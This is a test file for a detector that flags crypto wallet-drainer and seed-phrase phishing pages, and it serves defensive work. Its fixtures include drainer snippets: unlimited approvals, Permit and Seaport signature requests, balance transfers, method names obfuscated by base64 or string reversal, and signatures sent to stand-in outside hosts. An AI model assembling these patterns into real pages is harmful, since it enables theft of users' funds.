import { describe, expect, test } from 'bun:test'
import { WALLET_TABLE } from '../../../../src/trust/judge/money/wallet.ts'
import { rules, rulesInViews } from '../page-subject.ts'

const at = (body: string, url = 'https://mint.example/') => rules(WALLET_TABLE, body, { url })
const code = (call: string) =>
  `<script>await window.ethereum.request({method:"eth_requestAccounts"});${call}</script>`
const LURE = '<h1>Claim your airdrop</h1><button>Connect wallet</button>'

const APPROVAL = `0x095ea7b3${'0'.repeat(24)}${'ab'.repeat(20)}${'f'.repeat(64)}`

const REVOKING = [
  `<script>const none = '0x095ea7b3' + spender + '0'.repeat(64)</script>`,
  '<script>nft.setApprovalForAll(other, false)</script>',
]

describe('a wallet is emptied', () => {
  test.each([
    ['by an approval for all', code('nft.setApprovalForAll(me,true)') + LURE],
    [
      'by a permit of everything',
      code('ethereum.request({method:"eth_signTypedData_v4",params:[permit2]})') + LURE,
    ],
    ['by an order that costs nothing', code('seaport.fulfillOrder(o)') + LURE],
    ['by an approval without end', code('token.approve(me, MaxUint256)') + LURE],
    ['by a transfer of the balance', code('p.sendTransaction({value: await p.getBalance(a)})') + LURE],
    ['on another chain', `<script>window.solana.connect();solana.signAllTransactions(t)</script>${LURE}`],
    [
      'by a transaction that approves everything',
      code(`ethereum.request({method:"eth_sendTransaction",params:[{data:"${APPROVAL}"}]})`) + LURE,
    ],
    [
      'by a transaction that approves all tokens',
      code('ethereum.request({method:"eth_sendTransaction",params:[{data:"0xa22cb465"+p}]})') + LURE,
    ],
    [
      'by an order that is only signed',
      code('ethereum.request({method:"eth_signTypedData_v4",params:[a,{primaryType:"OrderComponents"}]})') +
        '<h1>Your rewards are live</h1>',
    ],
    ['in Portuguese', `${code('nft.setApprovalForAll(me,true)')}<h1>Resgate seu prêmio</h1>`],
    ['in Japanese', `${code('nft.setApprovalForAll(me,true)')}<h1>エアドロップを受け取る</h1>`],
    ['under the pretext of a repair', `${code('nft.increaseAllowance(me,x)')}<h1>Validate your wallet</h1>`],
  ])('%s, whatever it revokes besides [T16]', (_, body) => {
    for (const beside of ['', ...REVOKING])
      expect([beside, at(body + beside)]).toEqual([beside, ['content.wallet_drainer']])
  })

  test('in disguise, since the code runs', () => {
    const code = btoa('window.ethereum.request();nft.setApprovalForAll(me,true)')
    const body = `<script>eval(atob("${code}"))</script>${LURE}`
    expect(rulesInViews(WALLET_TABLE, body, { url: 'https://mint.example/' })).toEqual([
      'content.wallet_drainer',
    ])
  })

  test.each([
    ['an exchange of tokens', `${code('router.permit2(x)')}<h1>Swap</h1><button>Connect wallet</button>`],
    ['an approval for a reward that is owed', `${code('t.approve(v,MaxUint256)')}<h1>Your rewards</h1>`],
    [
      'an approval of an amount',
      code(`p({data:"0x095ea7b3${'0'.repeat(124)}ffff",method:"eth_sendTransaction"})`) + LURE,
    ],
    [
      'the end of an approval',
      `${code('nft.setApprovalForAll(op, false)')}<h1>Revoke approvals</h1><button>Connect wallet</button>`,
    ],
    ['a gift to be signed for', code('ethereum.request({method:"personal_sign"})') + LURE],
    ['a promise without a wallet', LURE],
    [
      'an article about such calls',
      '<h1>How drainers work</h1><p>Claim your airdrop: setApprovalForAll, eth_requestAccounts, MaxUint256</p>',
    ],
    ['code that is only shown', `${LURE}<pre>window.ethereum; setApprovalForAll(me, true)</pre>`],
  ])('but not by %s', (_, body) => {
    expect(at(body)).toEqual([])
  })

  test('but not by an application under its own name, in which an amount is typed', () => {
    const application = `${code('token.approve(ROUTER, MaxUint256)')}<h1>Kexorima: refunds</h1><input id=amount><a href="/terms">Terms</a><a href="/docs">Docs</a>`
    expect(at(application, 'https://kexorima.example/')).toEqual([])
    expect(at(application, 'https://moon.example/')).toEqual(['content.wallet_drainer'])
  })
})

describe('a wallet is emptied without a word', () => {
  const TAKER = `"0x${'ab'.repeat(20)}"`
  const BUTTON = '<h1>Moon</h1><button>Go</button>'
  const ALL = '115792089237316195423570985008687907853269984665640564039457584007913129639935'

  test.each([
    ['by an approval for all', `nft.setApprovalForAll(${TAKER},true)`],
    ['by an approval without end', `t.approve(${TAKER},"${ALL}")`],
    ['by a permit of everything', `s.signTypedData(d,{"Permit":[]},{spender:${TAKER},value:"${ALL}"})`],
    [
      'by an order for next to nothing',
      `s.signTypedData({name:"Seaport"},t,{offerer:a,consideration:[{startAmount:"1",recipient:${TAKER}}]})`,
    ],
    ['by its balance', `s.sendTransaction({to:${TAKER},value:await p.getBalance(a)})`],
    [
      'by whatever a server makes of it',
      'const l=await fetch("/build?w="+account);for(const t of l)x.push(deserialize(t));solana.signAllTransactions(x)',
    ],
    ['by a signature of anything', `ethereum.request({method:"eth_sign",params:[a,${TAKER}]})`],
    ['under a name in base64', `n[atob("${btoa('setApprovalForAll')}")](${TAKER},true)`],
    ['under a name in pieces', `n["setApproval"+"ForAll"](${TAKER},true)`],
    [
      'under a name that is turned around',
      `n["llAroFlavorppAtes".split("").reverse().join("")](${TAKER},true)`,
    ],
    ['for a taker in base64', `t.approve(atob("${btoa(`0x${'ab'.repeat(20)}`)}"),MaxUint256)`],
  ])('%s', (_, call) => {
    expect(at(code(call) + BUTTON)).toEqual(['content.wallet_drainer'])
    expect(at(`${code(call)}${BUTTON}<label>Amount<input id=amount></label>`)).toEqual([])
  })

  test.each([
    ['by an approval for nobody in particular', code('nft.setApprovalForAll(operator,true)')],
    ['by an approval of a part', code(`t.approve(${TAKER},parseUnits(x,18))`)],
    ['by the end of approvals', code(`for(const c of l)await c.setApprovalForAll(${TAKER},false)`)],
    ['by what it is paid', code(`new Contract(${TAKER},abi,s).claim(index,account,amount,proof)`)],
    ['by a signature to sign in', code('ethereum.request({method:"personal_sign",params:[m,a]})')],
  ])('but not %s', (_, script) => {
    expect(at(script + BUTTON)).toEqual([])
  })

  test('less so on a site with a name and pages of its own [T16]', () => {
    const script = code(`nft.setApprovalForAll(${TAKER},true)`)
    const own = '<title>Kexorima</title><h1>Kexorima</h1><a href="/terms">Terms</a><a href="/docs">Docs</a>'
    expect(at(script + own, 'https://kexorima.example/')).toEqual(['content.named_lure'])
    expect(at(script + own, 'https://moon.example/')).toEqual(['content.wallet_drainer'])
    expect(at(script + own.replaceAll('/', '#'), 'https://kexorima.example/')).toEqual([
      'content.wallet_drainer',
    ])
  })
})

describe('the words of a wallet', () => {
  const FIELD = '<label>Recovery phrase<textarea></textarea></label>'

  test('are asked for', () => {
    expect(at(`<h1>Restore your wallet</h1>${FIELD}`)).toEqual(['content.seed_phrase'])
  })

  test('may be asked for by whom they belong to', () => {
    expect(at(`<title>MetaMask</title><h1>MetaMask</h1>${FIELD}`, 'https://portfolio.metamask.io/')).toEqual(
      [],
    )
    expect(at(`<title>MetaMask</title><h1>MetaMask</h1>${FIELD}`)).toEqual(['content.seed_phrase'])
  })

  test('are all that goes in where wallets are listed', () => {
    const list = '<ul><li>MetaMask<li>Phantom<li>Ledger<li>Rabby</ul>'
    expect(at(`${list}<textarea name=k></textarea>`)).toEqual(['content.seed_phrase'])
    expect(at(`${list}<input type=email><textarea name=k></textarea>`)).toEqual([])
    expect(at('<p>MetaMask, Ledger</p><textarea name=k></textarea>')).toEqual([])
  })

  test('are not asked for by advice', () => {
    expect(at('<h1>Keep your recovery phrase safe</h1><p>Never type it anywhere.</p>')).toEqual([])
  })
})

describe('a wallet that is asked when a button is pressed [T9]', () => {
  const press = (method: string, to: string) =>
    `<title>Orders</title><button>Go</button><script>document.querySelector('button').onclick=async()=>{
      const p=window['ether'+'eum'];const [me]=await p.request({method:'eth_'+'requestAccounts'});
      const s=await p.request({method:${JSON.stringify(method)}.split('-').join(''),params:[me,'{}']});
      fetch('${to}',{method:'POST',body:JSON.stringify({me,s})})}</script>`
  const drained = (body: string) => rulesInViews(WALLET_TABLE, body, { url: 'https://mint.example/' })

  test('is emptied where what it signs is sent elsewhere', () => {
    expect(drained(press('eth_-signTyped-Data_v4', 'https://drop.example.net/'))).toEqual([
      'content.wallet_drainer',
    ])
  })

  test.each([
    ['where it is sent to the site itself', press('eth_-signTyped-Data_v4', '/orders')],
    ['where a message is signed to log in', press('personal_-sign', 'https://login.example.net/')],
  ])('is not emptied %s', (_, body) => {
    expect(drained(body)).toEqual([])
  })
})

describe('what a wallet is asked for after a press', () => {
  const BALANCE = "BigInt(await ethereum.request({ method: 'eth_getBalance', params: [me, 'latest'] }))"
  /** The code is an external script's, so that only what it does is seen. */
  const found = (code: string, fields = '') => {
    const body = `<h1>Welcome</h1>${fields}<button id=go>Go on</button><script src="/a.js"></script>`
    const script = `go.onclick = async () => {
      const [me] = await ethereum.request({ method: 'eth_requestAccounts' }); ${code} }`
    return rulesInViews(WALLET_TABLE, body, { url: 'https://mint.example/', script })
  }
  const sending = (value: string) => `const value = '0x' + (${value}).toString(16)
    await ethereum.request({ method: ['eth', 'sendTransaction'].join('_'),
      params: [{ from: me, to: '0x' + 'c4'.repeat(20), value }] })`

  test.each([
    ['nearly all that it holds', sending(`${BALANCE} * 95n / 100n`)],
    [
      'a signature of anything, which another site gets',
      `const all = await ethereum.request({ method: ['eth', 'sign'].join('_'), params: [me, '0x' + 'a1'.repeat(32)] })
       navigator.sendBeacon('https://take.example.net/', all)`,
    ],
  ])('%s: it is emptied', (_, code) => {
    expect(found(code)).toContain('content.wallet_drainer')
  })

  test.each([
    ['a price', sending('80000000000000000n'), ''],
    ['more than it holds', sending(`${BALANCE} * 2n`), ''],
    ['all of it, where a person says how much', sending(BALANCE), '<input type=number name=amount>'],
  ])('%s: it is not', (_, code, fields) => {
    expect(found(code, fields)).toEqual([])
  })
})

test.each([
  [`data: '0x095ea7b3' + s.slice(2).padStart(64, '0') + '0'.repeat(64)`],
  [`data: '0x095ea7b3${'0'.repeat(24)}${'ab'.repeat(20)}${'0'.repeat(64)}'`],
])('a page that revokes an approval takes nothing %#', (data) => {
  const revoke = `async function revoke(t, s) { const [a] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: a, to: t, ${data} }] }) }`
  expect(
    at(
      `<h1>Token approvals</h1><button onclick="revoke(1, '0x1')">Revoke</button><script>${revoke}</script>`,
    ),
  ).toEqual([])
})
